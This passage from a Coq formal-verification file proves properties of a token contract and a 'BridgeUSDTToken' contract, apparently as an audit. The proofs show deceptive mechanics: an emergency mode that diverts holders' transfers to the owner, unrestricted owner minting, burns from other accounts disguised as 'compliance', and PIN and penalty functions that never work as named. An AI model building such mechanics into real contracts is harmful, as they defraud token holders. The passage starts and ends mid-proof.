    = Revert (Error "Protocol: Wallet limit exceeded").
Proof.
  split; [|split].
  - refine (proj1 (trading_restrictions (hash:=sample_keccak) 1700000030 Sample.bob
                     Sample.carol 10 Sample.template_funded _ _ _ _ _) _);
      vm_compute; reflexivity.
  - refine (proj1 (proj2 (trading_restrictions (hash:=sample_keccak) 1700000030 Sample.bob
                            Sample.carol 2000 Scenes.template_trading_on _ _ _ _ _)) _ _);
      vm_compute; reflexivity.
  - refine (proj2 (proj2 (trading_restrictions (hash:=sample_keccak) 1700000030 Sample.bob
                            Sample.carol 10 Scenes.template_small_wallets _ _ _ _ _))
              _ _ _); try (vm_compute; reflexivity).
    + vm_compute. discriminate.
    + vm_compute. split; [reflexivity|discriminate].
Defined.

(** X4.  When the sender or the recipient is exempt, the trading switch
    and the two limits are not consulted: on a contract that is not
    paused, for a sender that is not excluded and whose transfer is not
    redirected, [transfer] of an amount the sender holds returns, whatever
    [tradingEnabled], [maxTransactionLimit] and [maxWalletLimit] are. *)
Theorem exempt_party_ignores_limits {hash : Keccak} now from to amount s :
  Template.paused s = false →
  Template.isExcluded s from = false →
  Template._shouldApplyEmergencyProtocol s from = false →
  Template.isExempt s from = true ∨ Template.isExempt s to = true →
  from ≠ address0 → to ≠ address0 →
  amount ≤ Template.balanceOf s from →
  Template._totalInteractions s + 1 ≤ uint256_max →
  ∃ s', Template.transfer now from to amount s = Ok s'.
Proof.
  intros Hp Hx Hem Hex Hf Ht Hb Hn.
  unfold Template.transfer, Template._transfer, Template.whenNotPaused,
    Pausable.whenNotPaused.
  rewrite Hp, Hx, Hem. simpl.
  assert (negb (Template.isExempt s from) && negb (Template.isExempt s to) = false) as ->.
  { destruct Hex as [-> | ->]; [done|]. by rewrite andb_false_r. }
  simpl.
  destruct (TemplateMore._recordInteraction_returns now 4 from
              (keccak256 (encodePacked [p_address from; p_address to; p_uint256 amount;
                                        p_uint256 now])) s Hn) as [s1 Hs1].
  rewrite Hs1. simpl.
  apply TemplateFacts._recordInteraction_Ok in Hs1 as (d & u & n & ->).
  unfold Template.on_erc20, ERC20._transfer. simpl.
  rewrite !bool_decide_eq_true_2 by done. simpl. eauto.
Qed.

Lemma exempt_party_ignores_limits_witness :
  ∃ s', Template.transfer (hash:=sample_keccak) 1700000030 Sample.alice Sample.bob 500
          Sample.template_funded = Ok s'.
Proof.
  apply (exempt_party_ignores_limits (hash:=sample_keccak) 1700000030 Sample.alice Sample.bob
           500 Sample.template_funded); try (vm_compute; reflexivity);
    try (vm_compute; discriminate).
  left. vm_compute. reflexivity.
Defined.

(** X5.  [reduceCirculatingSupply(amount)] burns from the caller: when it
    returns, the caller is not excluded and held at least [amount], its
    balance and [totalSupply] are both lower by [amount] and no other
    balance changed.  It reverts with "ERC20: burn amount exceeds balance"
    when the caller holds less.  The pause is not consulted: a caller that
    is not excluded and holds [amount] burns on a paused contract too. *)
Theorem reduceCirculatingSupply_burns {hash : Keccak} now msg_sender amount s :
  Template.reachable s → is_uint256 amount →
  (∀ s', Template.reduceCirculatingSupply now msg_sender amount s = Ok s' →
     Template.isExcluded s msg_sender = false
     ∧ amount ≤ Template.balanceOf s msg_sender
     ∧ Template.balanceOf s' msg_sender = Template.balanceOf s msg_sender - amount
     ∧ Template.totalSupply s' = Template.totalSupply s - amount
     ∧ ∀ a, a ≠ msg_sender → Template.balanceOf s' a = Template.balanceOf s a)
  ∧ (Template.isExcluded s msg_sender = false → msg_sender ≠ address0 →
     Template.balanceOf s msg_sender < amount →
     Template.reduceCirculatingSupply now msg_sender amount s
     = Revert (Error "ERC20: burn amount exceeds balance"))
  ∧ (Template.isExcluded s msg_sender = false → msg_sender ≠ address0 →
     amount ≤ Template.balanceOf s msg_sender →
     Template._totalInteractions s + 1 ≤ uint256_max →
     ∃ s', Template.reduceCirculatingSupply now msg_sender amount s = Ok s').
Proof.
  intros Hre [Ha _]. apply TemplateFacts.reachable_inv in Hre.
  unfold Template.reduceCirculatingSupply, Template.protocolCompliant.
  split; [|split].
  - intros s' Hr.
    apply bind_Ok in Hr as (? & Hx & Hr). apply require_Ok, negb_true_iff in Hx.
    apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply TemplateFacts.on_erc20_Ok in Hs1 as (e & He & ->).
    apply TemplateFacts._recordInteraction_Ok in Hr as (d & u & n & ->).
    eapply ERC20Facts._burn_Ok in He as (_ & Hle & Hts & Hb & _); [|done..].
    unfold Template.totalSupply, Template.balanceOf, ERC20.totalSupply. simpl.
    split_and!; try done.
    + rewrite Hb. by case_decide.
    + intros a Hne. rewrite Hb. by case_decide.
  - intros -> Hz Hlt. simpl. unfold Template.on_erc20, ERC20._burn.
    rewrite (bool_decide_eq_true_2 (msg_sender ≠ address0)) by done. simpl.
    unfold Template.balanceOf in Hlt. rewrite bool_decide_eq_false_2 by lia. reflexivity.
  - intros -> Hz Hle Hn. simpl. unfold Template.on_erc20, ERC20._burn.
    rewrite (bool_decide_eq_true_2 (msg_sender ≠ address0)) by done. simpl.
    unfold Template.balanceOf in Hle. rewrite bool_decide_eq_true_2 by done. simpl.
    apply TemplateMore._recordInteraction_returns. done.
Qed.

Lemma reduceCirculatingSupply_burns_witness :
  Template.balanceOf
    (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
       (Template.c_reduceCirculatingSupply 30) Sample.template_paused) Sample.bob = 70
  ∧ Template.reduceCirculatingSupply (hash:=sample_keccak) 1700000030 Sample.bob 101
      Sample.template_paused
    = Revert (Error "ERC20: burn amount exceeds balance").
Proof.
  destruct (reduceCirculatingSupply_burns (hash:=sample_keccak) 1700000030 Sample.bob 30
              Sample.template_paused SampleFacts.template_paused_reachable
              ltac:(vm_compute; split; discriminate)) as (H1 & _ & _).
  destruct (reduceCirculatingSupply_burns (hash:=sample_keccak) 1700000030 Sample.bob 101
              Sample.template_paused SampleFacts.template_paused_reachable
              ltac:(vm_compute; split; discriminate)) as (_ & H2 & _).
  split.
  - destruct (H1 (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
                    (Template.c_reduceCirculatingSupply 30) Sample.template_paused)
                ltac:(vm_compute; reflexivity)) as (_ & _ & Hb & _).
    etransitivity; [exact Hb|vm_compute; reflexivity].
  - apply H2; vm_compute; first [reflexivity|discriminate].
Defined.

(** X6.  [optimizeWalletCompliance(account, amount)] burns from [account]
    against the allowance it gave the caller: when it returns, the caller
    is not excluded, [amount] is at most the allowance and at most the
    balance of [account], the allowance, the balance of [account] and
    [totalSupply] are all lower by [amount] -- an unlimited allowance is
    lowered as well -- and no other balance changed.  It reverts with
    "Protocol: Amount exceeds allowance" when the allowance is lower.
    Neither the pause nor an exclusion of [account] is consulted. *)
Theorem optimizeWalletCompliance_burns_from {hash : Keccak} now msg_sender account amount s :
  Template.reachable s → is_uint256 amount →
  (∀ s', Template.optimizeWalletCompliance now msg_sender account amount s = Ok s' →
     Template.isExcluded s msg_sender = false
     ∧ amount ≤ Template.allowance s account msg_sender
     ∧ amount ≤ Template.balanceOf s account
     ∧ Template.allowance s' account msg_sender
       = Template.allowance s account msg_sender - amount
     ∧ Template.balanceOf s' account = Template.balanceOf s account - amount
     ∧ Template.totalSupply s' = Template.totalSupply s - amount
     ∧ ∀ a, a ≠ account → Template.balanceOf s' a = Template.balanceOf s a)
  ∧ (Template.isExcluded s msg_sender = false →
     Template.allowance s account msg_sender < amount →
     Template.optimizeWalletCompliance now msg_sender account amount s
     = Revert (Error "Protocol: Amount exceeds allowance")).
Proof.
  intros Hre [Ha _].
  pose proof (TemplateMore.reachable_allowance_range s account msg_sender Hre) as [Hal0 Hal1].
  apply TemplateFacts.reachable_inv in Hre.
  unfold Template.optimizeWalletCompliance, Template.protocolCompliant.
  split.
  - intros s' Hr.
    apply bind_Ok in Hr as (? & Hx & Hr). apply require_Ok, negb_true_iff in Hx.
    apply bind_Ok in Hr as (? & Hle & Hr). apply require_Ok, bool_decide_eq_true_1 in Hle.
    apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply TemplateFacts.on_erc20_Ok in Hs1 as (e1 & He1 & ->).
    apply bind_Ok in Hr as (s2 & Hs2 & Hr).
    apply TemplateFacts.on_erc20_Ok in Hs2 as (e2 & He2 & ->). simpl in He2.
    apply TemplateFacts._recordInteraction_Ok in Hr as (d & u & n & ->).
    pose proof (TemplateMore.erc20_approve_allowance _ _ _ _ _ He1 account msg_sender) as Hal.
    rewrite decide_True in Hal by done.
    apply ERC20Facts._approve_Ok in He1 as ->.
    pose proof (TemplateMore.erc20_burn_allowances _ _ _ _ He2) as Hfr.
    eapply ERC20Facts._burn_Ok in He2 as (_ & Hbl & Hts & Hb & _);
      [|by apply ERC20Facts.set_allowances_inv|done].
    unfold Template.totalSupply, Template.balanceOf, Template.allowance, ERC20.totalSupply,
      ERC20.allowance in *. simpl in *.
    split_and!; try done.
    + rewrite Hfr. simpl. rewrite mget_insert_eq. apply wrap256_id.
      unfold is_uint256. lia.
    + rewrite Hb. by case_decide.
    + intros a Hne. rewrite Hb. by case_decide.
  - intros -> Hlt. simpl. rewrite bool_decide_eq_false_2 by lia. reflexivity.
Qed.

Lemma optimizeWalletCompliance_burns_from_witness :
  Template.paused Scenes.template_approved_paused = true
  ∧ Template.isExcluded Scenes.template_approved_paused Sample.bob = true
  ∧ Template.balanceOf
      (Template.transact (hash:=sample_keccak) 1700000030 Sample.carol
         (Template.c_optimizeWalletCompliance Sample.bob 50) Scenes.template_approved_paused)
      Sample.bob = 50
  ∧ Template.optimizeWalletCompliance (hash:=sample_keccak) 1700000030 Sample.carol Sample.bob
      61 Scenes.template_approved_paused
    = Revert (Error "Protocol: Amount exceeds allowance").
Proof.
  pose proof ScenesFacts.template_approved_paused_reachable as Hre.
  destruct (optimizeWalletCompliance_burns_from (hash:=sample_keccak) 1700000030 Sample.carol
              Sample.bob 50 Scenes.template_approved_paused Hre
              ltac:(vm_compute; split; discriminate)) as (H1 & _).
  destruct (optimizeWalletCompliance_burns_from (hash:=sample_keccak) 1700000030 Sample.carol
              Sample.bob 61 Scenes.template_approved_paused Hre
              ltac:(vm_compute; split; discriminate)) as (_ & H2).
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|]. split.
  - destruct (H1 (Template.transact (hash:=sample_keccak) 1700000030 Sample.carol
                    (Template.c_optimizeWalletCompliance Sample.bob 50)
                    Scenes.template_approved_paused)
                ltac:(vm_compute; reflexivity)) as (_ & _ & _ & _ & Hb & _).
    etransitivity; [exact Hb|vm_compute; reflexivity].
  - apply H2; vm_compute; reflexivity.
Defined.

(** X7.  [setNetworkValidator(validator, level)], when it returns, was
    called by the owner with a non-zero address, stores the level and puts
    [validator] on the exclusion list without touching any balance: from
    then on each [transfer] from [validator] reverts and its
    [reduceCirculatingSupply] reverts with "Protocol: Account is
    excluded". *)
Theorem setNetworkValidator_excludes {hash : Keccak} now msg_sender validator level s s' :
  Template.setNetworkValidator msg_sender validator level s = Ok s' →
  msg_sender = Template.owner s ∧ validator ≠ address0
  ∧ Template.isExcluded s' validator = true
  ∧ mget 0 (Template._addressSecurityLevel s') validator = level
  ∧ Template.erc20 s' = Template.erc20 s
  ∧ (∀ to amount, reverted (Template.transfer now validator to amount s'))
  ∧ (∀ amount,
       Template.reduceCirculatingSupply now validator amount s'
       = Revert (Error "Protocol: Account is excluded")).
Proof.
  intros Hr. unfold Template.setNetworkValidator in Hr.
  apply bind_Ok in Hr as (? & Ho & Hr). apply TemplateFacts.onlyOwner_Ok in Ho.
  apply bind_Ok in Hr as (? & Hz & Hr). apply require_Ok, bool_decide_eq_true_1 in Hz.
  injection Hr as Heq.
  assert (Hex : Template.isExcluded s' validator = true).
  { subst s'. unfold Template.isExcluded. simpl. by rewrite mget_insert_eq. }
  split_and!; try done.
  - subst s'. simpl. by rewrite mget_insert_eq.
  - by subst s'.
  - intros to amount. unfold Template.transfer, Template._transfer.
    destruct (Template.whenNotPaused _) as [[]|]; simpl; [|done].
    by rewrite Hex.
  - intros amount. unfold Template.reduceCirculatingSupply, Template.protocolCompliant.
    by rewrite Hex.
Qed.

Lemma setNetworkValidator_excludes_witness :
  Template.isExcluded Scenes.template_validator Sample.bob = true
  ∧ reverted (Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.carol 10
                Scenes.template_validator).
Proof.
  destruct (setNetworkValidator_excludes (hash:=sample_keccak) 1700000030 Sample.alice
              Sample.bob 3 Sample.template_funded Scenes.template_validator
              ltac:(vm_compute; reflexivity)) as (_ & _ & H1 & _ & _ & H2 & _).
  split; [exact H1|apply H2].
Defined.

(** X8.  After [renounceOwnership] the owner is the zero address and
    stays so, whatever calls return afterwards (none of them from the zero
    address).  If the emergency mode is on at that point, every
    [transfer] by a sender that is not exempt reverts: the redirected
    transfer is then one to the zero address, rejected with "ERC20:
    transfer to the zero address". *)
Theorem renounced_owner_freezes_redirected_transfers {hash : Keccak} :
  (∀ msg_sender s s',
     Template.renounceOwnership msg_sender s = Ok s' →
     msg_sender = Template.owner s ∧ Template.owner s' = address0)
  ∧ (∀ now msg_sender c s s',
       Template.owner s = address0 → msg_sender ≠ address0 →
       Template.dispatch now msg_sender c s = Ok s' →
       Template.owner s' = address0)
  ∧ (∀ now from to amount s,
       Template.owner s = address0 →
       Template.emergencyModeActive s = true →
       Template.isExempt s from = false →
       reverted (Template.transfer now from to amount s)
       ∧ (Template.paused s = false → Template.isExcluded s from = false →
          from ≠ address0 →
          Template.transfer now from to amount s
          = Revert (Error "ERC20: transfer to the zero address"))).
Proof.
  split; [|split].
  - intros msg_sender s s' Hr. unfold Template.renounceOwnership in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr). apply TemplateFacts.onlyOwner_Ok in Ho.
    by injection Hr as <-.
  - intros now msg_sender c s s' Ho Hz Hr. unfold Template.owner in *.
    destruct c; simpl in Hr; TemplateMore.unfold_calls Hr; peel_all;
      repeat match goal with
      | Hk : Template.onlyOwner _ _ = Ok _ |- _ =>
          apply TemplateFacts.onlyOwner_Ok in Hk; unfold Template.owner in Hk
      end;
      TemplateMore.callees; simpl;
      rewrite ?(proj1 (proj2 (TemplateMore.enhance_loop_emergency _ _)));
      try done; try congruence.
  - intros now from to amount s Ho Hem Hex.
    unfold Template.transfer, Template._transfer, Template.whenNotPaused,
      Pausable.whenNotPaused, Template._shouldApplyEmergencyProtocol.
    rewrite Hem, Hex, Ho. simpl. split.
    + destruct (Template.paused s); simpl; [done|].
      destruct (Template.isExcluded s from); simpl; [done|].
      unfold Template.on_erc20, ERC20._transfer.
      destruct (bool_decide (from ≠ address0)); simpl; done.
    + intros -> -> Hz. simpl. unfold Template.on_erc20, ERC20._transfer.
      rewrite (bool_decide_eq_true_2 (from ≠ address0)) by done. reflexivity.
Qed.

Lemma renounced_owner_freezes_redirected_transfers_witness :
  Template.owner Scenes.template_renounced = address0
  ∧ Template.transfer (hash:=sample_keccak) 1700000040 Sample.bob Sample.carol 10
      Scenes.template_renounced
    = Revert (Error "ERC20: transfer to the zero address").
Proof.
  destruct (renounced_owner_freezes_redirected_transfers (hash:=sample_keccak))
    as (H1 & _ & H3).
  split.
  - apply (H1 Sample.alice Sample.template_emergency). vm_compute. reflexivity.
  - apply H3; vm_compute; first [reflexivity|discriminate].
Defined.

(** X9.  Nothing but the owner check, the zero address and the
    arithmetic stops [allocateProtocolReserves]: called by the owner with
    a non-zero recipient it returns whenever the new supply fits a
    [uint256], on a paused contract, with trading off, for an excluded
    recipient and above the wallet limit as well. *)
Theorem allocateProtocolReserves_is_never_blocked {hash : Keccak} now to amount s :
  to ≠ address0 →
  Template.totalSupply s + amount ≤ uint256_max →
  Template._totalInteractions s + 1 ≤ uint256_max →
  ∃ s', Template.allocateProtocolReserves now (Template.owner s) to amount s = Ok s'
        ∧ Template.paused s' = Template.paused s.
Proof.
  intros Hz Hsup Hn.
  unfold Template.allocateProtocolReserves, Template.onlyOwner, Ownable.onlyOwner.
  rewrite (bool_decide_eq_true_2 (Template.owner s = Template.owner s)) by done. simpl.
  rewrite (bool_decide_eq_true_2 (to ≠ address0)) by done. simpl.
  unfold Template.on_erc20, ERC20._mint.
  rewrite (bool_decide_eq_true_2 (to ≠ address0)) by done. simpl.
  unfold checked_add at 1. rewrite decide_True by done. simpl.
  unfold Template._recordInteraction, checked_add. simpl.
  rewrite decide_True by done. simpl. eauto.
Qed.

Lemma allocateProtocolReserves_is_never_blocked_witness :
  Template.paused Sample.template_bob_excluded_paused = true
  ∧ Template.isExcluded Sample.template_bob_excluded_paused Sample.bob = true
  ∧ ∃ s', Template.allocateProtocolReserves (hash:=sample_keccak) 1700000030 Sample.alice
            Sample.bob 5000 Sample.template_bob_excluded_paused = Ok s'
          ∧ Template.paused s' = true.
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  apply (allocateProtocolReserves_is_never_blocked (hash:=sample_keccak) 1700000030 Sample.bob
           5000 Sample.template_bob_excluded_paused); vm_compute; discriminate.
Defined.

(** X10.  The redirection applies to [transferFrom] too: when it returns
    in the emergency mode for a [from] that is not exempt, the caller's
    allowance is spent (left as it is when unlimited), the amount leaves
    [from] and arrives at the owner, and every other balance, the named
    recipient's included, is as before. *)
Theorem transferFrom_is_redirected {hash : Keccak} now msg_sender from to amount s s' :
  Template.reachable s → is_uint256 amount →
  Template.emergencyModeActive s = true →
  Template.isExempt s from = false →
  Template.transferFrom now msg_sender from to amount s = Ok s' →
  amount ≤ Template.allowance s from msg_sender
  ∧ Template.allowance s' from msg_sender
    = (if decide (Template.allowance s from msg_sender = uint256_max) then uint256_max
       else Template.allowance s from msg_sender - amount)
  ∧ (from ≠ Template.owner s →
       Template.balanceOf s' (Template.owner s)
       = Template.balanceOf s (Template.owner s) + amount
       ∧ Template.balanceOf s' from = Template.balanceOf s from - amount)
  ∧ (∀ a, a ≠ from → a ≠ Template.owner s →
       Template.balanceOf s' a = Template.balanceOf s a).
Proof.
  intros Hre Ha Hem Hex Hr.
  pose proof (TemplateMore.reachable_allowance_range s from msg_sender Hre) as Hal.
  apply TemplateFacts.reachable_inv in Hre.
  unfold Template.transferFrom in Hr. apply bind_Ok in Hr as (s1 & Hs1 & Hr).
  apply TemplateFacts.on_erc20_Ok in Hs1 as (e1 & He1 & ->).
  apply TemplateMore.erc20_spendAllowance_allowance in He1 as (Hle & Hb1 & Hts1 & Hal1);
    [|done..].
  apply TemplateFacts.transfer_override_Ok in Hr
    as (_ & _ & [(_ & e & He & ->)|(Hno & _)]).
  - simpl in He.
    pose proof (TemplateMore.erc20_transfer_allowances _ _ _ _ _ He) as Hfr.
    eapply ERC20Facts._transfer_Ok in He as (_ & _ & _ & Hb & _); [| |apply Ha].
    2:{ destruct Hre as (H1 & H2 & H3). unfold ERC20.inv. rewrite Hb1, Hts1. done. }
    unfold Template.balanceOf, Template.allowance, Template.owner in *. simpl in *.
    assert (Hbal : ∀ a, ERC20.balanceOf e1 a = ERC20.balanceOf (Template.erc20 s) a).
    { intros a. unfold ERC20.balanceOf. by rewrite Hb1. }
    split_and!.
    + done.
    + unfold ERC20.allowance at 1. rewrite Hfr.
      specialize (Hal1 from msg_sender). rewrite decide_True in Hal1 by done. exact Hal1.
    + intros Hne. rewrite !Hb, !Hbal. repeat case_decide; try done; split; lia.
    + intros a Hf Ho. rewrite Hb, Hbal. by repeat case_decide.
  - unfold Template._shouldApplyEmergencyProtocol, Template.isExempt in *. simpl in Hno.
    by rewrite Hem, Hex in Hno.
Qed.

Lemma transferFrom_is_redirected_witness :
  Template.balanceOf
    (Template.transact (hash:=sample_keccak) 1700000040 Sample.carol
       (Template.c_transferFrom Sample.bob Sample.dave 10) Scenes.template_emergency_approved)
    Sample.dave = 0
  ∧ Template.balanceOf
      (Template.transact (hash:=sample_keccak) 1700000040 Sample.carol
         (Template.c_transferFrom Sample.bob Sample.dave 10)
         Scenes.template_emergency_approved)
      Sample.alice = 910.
Proof.
  destruct (transferFrom_is_redirected (hash:=sample_keccak) 1700000040 Sample.carol
              Sample.bob Sample.dave 10 Scenes.template_emergency_approved
              (Template.transact (hash:=sample_keccak) 1700000040 Sample.carol
                 (Template.c_transferFrom Sample.bob Sample.dave 10)
                 Scenes.template_emergency_approved)
              ScenesFacts.template_emergency_approved_reachable
              ltac:(vm_compute; split; discriminate)
              ltac:(vm_compute; reflexivity) ltac:(vm_compute; reflexivity)
              ltac:(vm_compute; reflexivity)) as (_ & _ & H3 & H4).
  split.
  - etransitivity; [apply H4; vm_compute; discriminate|vm_compute; reflexivity].
  - etransitivity; [apply H3; vm_compute; discriminate|vm_compute; reflexivity].
Defined.

(** X11.  The constructor leaves trading off and only the deployer
    exempt: it mints the whole supply to the deployer, sets both limits to
    the supply, and until the owner acts every [transfer] between two
    addresses other than the deployer reverts with "Protocol: Trading not
    enabled". *)
Theorem deployed_template_has_trading_off {hash : Keccak} now deployer name_ symbol_ supply s :
  is_uint256 supply →
  Template.constructor now deployer name_ symbol_ supply = Ok s →
  Template.owner s = deployer
  ∧ Template.balanceOf s deployer = supply ∧ Template.totalSupply s = supply
  ∧ Template.maxTransactionLimit s = supply ∧ Template.maxWalletLimit s = supply
  ∧ Template.tradingEnabled s = false ∧ Template.emergencyModeActive s = false
  ∧ (∀ a, Template.isExempt s a = bool_decide (a = deployer))
  ∧ ∀ now' from to amount,
      from ≠ deployer → to ≠ deployer →
      Template.transfer now' from to amount s = Revert (Error "Protocol: Trading not enabled").
Proof.
  intros Hs Hr. unfold Template.constructor in Hr.
  apply bind_Ok in Hr as (s1 & Hs1 & Hr). injection Hr as Heq.
  apply TemplateFacts.on_erc20_Ok in Hs1 as (e & He & ->).
  eapply ERC20Facts._mint_Ok in He as (_ & Hts & Hb & _);
    [|apply ERC20Facts.inv_init|apply Hs].
  assert (Hexempt : ∀ a, Template.isExempt s a = bool_decide (a = deployer)).
  { intros a. subst s. unfold Template.isExempt. simpl.
    rewrite mget_insert. case_decide; subst.
    - by rewrite bool_decide_eq_true_2.
    - rewrite mget_empty. by rewrite bool_decide_eq_false_2. }
  assert (Hp : Template.paused s = false) by (by subst s).
  assert (Hx : ∀ a, Template.isExcluded s a = false).
  { intros a. subst s. unfold Template.isExcluded. simpl. apply mget_empty. }
  assert (Hem : Template.emergencyModeActive s = false) by (by subst s).
  assert (Htr : Template.tradingEnabled s = false) by (by subst s).
  split; [by subst s|]. split.
  { subst s. unfold Template.balanceOf. simpl. rewrite Hb, decide_True by done.
    unfold ERC20.balanceOf. simpl. by rewrite mget_empty. }
  split; [subst s; unfold Template.totalSupply, ERC20.totalSupply; simpl; by rewrite Hts|].
  split; [by subst s|]. split; [by subst s|].
  split; [done|]. split; [done|]. split; [done|].
  clear Heq Hts Hb.
  intros now' from to amount Hf Ht.
  unfold Template.transfer, Template._transfer, Template.whenNotPaused,
    Pausable.whenNotPaused, Template._shouldApplyEmergencyProtocol.
  rewrite Hp, Hx, Hem, !Hexempt, Htr. simpl.
  rewrite !bool_decide_eq_false_2 by done. reflexivity.
Qed.

Lemma deployed_template_has_trading_off_witness :
  Template.tradingEnabled Sample.template_deployed = false
  ∧ Template.transfer (hash:=sample_keccak) 1700000005 Sample.bob Sample.carol 0
      Sample.template_deployed
    = Revert (Error "Protocol: Trading not enabled").
Proof.
  destruct (deployed_template_has_trading_off (hash:=sample_keccak) 1700000000 Sample.alice
              "Sample" "SMP" 1000 Sample.template_deployed
              ltac:(vm_compute; split; discriminate) ltac:(vm_compute; reflexivity))
    as (_ & _ & _ & _ & _ & H1 & _ & _ & H2).
  split; [exact H1|]. apply H2; vm_compute; discriminate.
Defined.

(** ** BridgeUSDTToken *)

(** X12.  No failed PIN attempt is ever on record: in every storage the
    contract can reach, every account has [failedAttempts = 0] and
    [lockUntil = 0].  Each function that counts a failed attempt reverts
    right after counting it -- a wrong PIN makes [SecuredMessageSetRead],
    [SecuredMessageSetDeleted] and [updateSecurityPIN] revert -- and the
    revert takes the count back. *)
Theorem failed_pin_attempts_are_never_recorded {hash : Keccak} :
  (∀ self s user,
     Bridge.reachable self s →
     Bridge.failedAttempts (Bridge.security s user) = 0
     ∧ Bridge.lockUntil (Bridge.security s user) = 0)
  ∧ (∀ e user messageId pin newPin s,
       keccak256 (encodePacked [p_string pin; p_bytes32 (Bridge.salt (Bridge.security s user));
                                p_address user])
       ≠ Bridge.pinHash (Bridge.security s user) →
       reverted (Bridge.SecuredMessageSetRead e user messageId pin s)
       ∧ reverted (Bridge.SecuredMessageSetDeleted e user messageId pin s)
       ∧ reverted (Bridge.updateSecurityPIN e user pin newPin s)).
Proof.
  split.
  - intros self s user Hre. apply BridgeMore.reachable_quiet in Hre as (Hq & _). apply Hq.
  - intros e user messageId pin newPin s Hne.
    assert (Hv : ∀ s1, Bridge.security s1 user = Bridge.security s user →
                 ∀ b s2, Bridge._verifyPINInternal e user pin s1 = Ok (b, s2) → b = false).
    { intros s1 Hs1 b s2 Hr. destruct b; [|done].
      apply BridgeMore._verifyPINInternal_true in Hr as (_ & Hh & _).
      rewrite Hs1 in Hh. done. }
    split; [|split].
    + destruct (Bridge.SecuredMessageSetRead e user messageId pin s) as [s'|] eqn:Hr; [|done].
      unfold Bridge.SecuredMessageSetRead in Hr. apply bind_Ok in Hr as (? & _ & Hr).
      apply BridgeFacts.nonReentrant_Ok in Hr as (_ & s1 & Hb & _). simpl in Hb.
      apply bind_Ok in Hb as (? & _ & Hb). apply bind_Ok in Hb as ([b s2] & Hk & Hb).
      apply Hv in Hk as ->; [|done]. discriminate Hb.
    + destruct (Bridge.SecuredMessageSetDeleted e user messageId pin s) as [s'|] eqn:Hr;
        [|done].
      unfold Bridge.SecuredMessageSetDeleted in Hr. apply bind_Ok in Hr as (? & _ & Hr).
      apply BridgeFacts.nonReentrant_Ok in Hr as (_ & s1 & Hb & _). simpl in Hb.
      apply bind_Ok in Hb as (? & _ & Hb). apply bind_Ok in Hb as ([b s2] & Hk & Hb).
      apply Hv in Hk as ->; [|done]. discriminate Hb.
    + destruct (Bridge.updateSecurityPIN e user pin newPin s) as [s'|] eqn:Hr; [|done].
      unfold Bridge.updateSecurityPIN in Hr.
      do 4 (apply bind_Ok in Hr as (? & _ & Hr)).
      apply bind_Ok in Hr as ([b s2] & Hk & Hr).
      apply Hv in Hk as ->; [|done]. simpl in Hr.
      apply bind_Ok in Hr as (? & _ & Hr). discriminate Hr.
Qed.

Lemma failed_pin_attempts_are_never_recorded_witness :
  Bridge.failedAttempts
    (Bridge.security
       (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.bob
          (Bridge.c_SecuredMessageSetRead 0 "0000") Scenes.bridge_message) Sample.bob) = 0
  ∧ reverted (Bridge.SecuredMessageSetRead (hash:=sample_keccak)
                (Sample.bridge_env 1700000040) Sample.bob 0 "0000" Scenes.bridge_message).
Proof.
  destruct (failed_pin_attempts_are_never_recorded (hash:=sample_keccak)) as [H1 H2].
  assert (Hre : Bridge.reachable (hash:=sample_keccak) Sample.dave
                  (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040)
                     Sample.bob (Bridge.c_SecuredMessageSetRead 0 "0000")
                     Scenes.bridge_message)).
  { apply SampleFacts.bridge_transact_reachable;
      [apply ScenesFacts.bridge_message_reachable|vm_compute; split; discriminate
      |vm_compute; split; discriminate]. }
  split.
  - exact (proj1 (H1 Sample.dave _ Sample.bob Hre)).
  - refine (proj1 (H2 (Sample.bridge_env 1700000040) Sample.bob 0 "0000" "0000"
                     Scenes.bridge_message _)).
    vm_compute. discriminate.
Defined.

(** X13.  [paySecurityPenalty] never takes a payment: in every storage
    the contract can reach it reverts with "Security: No penalties to
    pay", whoever calls it, with whatever token type, whatever the
    penalty token would answer. *)
Theorem paySecurityPenalty_never_succeeds {hash : Keccak} self e msg_sender tokenType x s :
  Bridge.reachable self s →
  Bridge.paySecurityPenalty e msg_sender tokenType x s
  = Revert (Error "Security: No penalties to pay").
Proof.
  intros Hre.
  pose proof (BridgeFacts.reachable_wf _ _ Hre) as (_ & Hst & _).
  apply BridgeMore.reachable_quiet in Hre as (Hq & _).
  destruct (Hq msg_sender) as [Hfa _].
  unfold Bridge.paySecurityPenalty, Bridge.nonReentrant, ReentrancyGuard.nonReentrantBefore.
  rewrite Hst. simpl.
  change (Bridge.security (Bridge.set_status ReentrancyGuard._ENTERED s) msg_sender)
    with (Bridge.security s msg_sender).
  rewrite Hfa. reflexivity.
Qed.

Lemma paySecurityPenalty_never_succeeds_witness :
  Bridge.paySecurityPenalty (Sample.bridge_env 1700000040) Sample.bob 0
    (returns true) Scenes.bridge_message
  = Revert (Error "Security: No penalties to pay").
Proof.
  apply (paySecurityPenalty_never_succeeds (hash:=sample_keccak) Sample.dave).
  apply ScenesFacts.bridge_message_reachable.
Defined.

(** X14.  Each function guarded by [onlyOwner] reverts with "Ownable:
    caller is not the owner" for every caller but the owner, and each
    function guarded by [onlyAdmin] ([adminRecoverAccount],
    [performSystemMaintenance], [verifyProtocolIntegrity],
    [optimizeTokenDistribution]) reverts with "Admin: Not authorized" for
    every caller that is not an active administrator. *)
Theorem bridge_access_control {hash : Keccak} e msg_sender c s :
  (Bridge.owner_only c = true → msg_sender ≠ Bridge.owner s →
   Bridge.dispatch e msg_sender c s = Revert (Error "Ownable: caller is not the owner"))
  ∧ (Bridge.admin_only c = true → Bridge.isActive (Bridge.admin s msg_sender) = false →
     Bridge.dispatch e msg_sender c s = Revert (Error "Admin: Not authorized")).
Proof.
  split.
  - intros Hc Hne. apply BridgeFacts.bridge_onlyOwner_other in Hne.
    destruct c; try discriminate Hc; simpl;
      unfold Bridge.setFeeCollectionAddress, Bridge.recoverTokens, Bridge.updateSystemAdmin,
        Bridge.updateSecurityProtocol, Bridge.optimizeProtocolPerformance,
